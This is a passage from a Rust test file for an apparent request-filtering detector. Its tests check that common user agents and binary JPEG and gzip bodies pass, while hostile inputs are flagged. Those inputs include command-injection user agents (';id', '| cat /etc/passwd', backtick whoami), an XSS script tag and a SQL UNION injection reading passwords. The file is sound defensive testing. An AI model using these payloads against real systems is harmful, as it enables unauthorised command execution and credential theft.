        "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f",
        "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
        // Bare client names (black-box pass 8): Ruby's Net::HTTP, Node's fetch.
        "Ruby",
        "node",
        "python",
        "perl",
        "php",
        "java",
    ] {
        let r = ua(agent);
        assert!(!r.exceeded, "{agent}: {r:?}");
    }
    for agent in [
        "curl/8.5.0; id",
        "Mozilla/5.0 | cat /etc/passwd",
        "x`whoami`",
    ] {
        let r = ua(agent);
        assert!(r.exceeded, "{agent}: {r:?}");
    }
}

/// Images, archives and other binary bodies are read as bytes, not as text full of
/// "attacks" (black-box pass 9, FP-2: JPEGs and gzip files were refused); text sent under
/// such a type is still read.
#[test]
fn binary_bodies_are_read_as_bytes() {
    let mut x: u32 = 11;
    let mut noise = |n: usize| noise(&mut x, n);
    for _ in 0..20 {
        let jpeg = [
            &b"\xff\xd8\xff\xe1"[..],
            &noise(64),
            b"<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF/></x:xmpmeta>",
            &noise(4096),
        ]
        .concat();
        assert!(!post("image/jpeg", &jpeg).exceeded);
        let gz = [&b"\x1f\x8b\x08\x00"[..], &noise(4096)].concat();
        assert!(!post("application/gzip", &gz).exceeded);
        assert!(!post("application/octet-stream", &noise(4096)).exceeded);
    }
    assert!(post("image/png", b"<script>alert(1)</script>").exceeded);
    assert!(
        post(
            "application/octet-stream",
            b"1' UNION SELECT password FROM users--"
        )
        .exceeded
    );
}
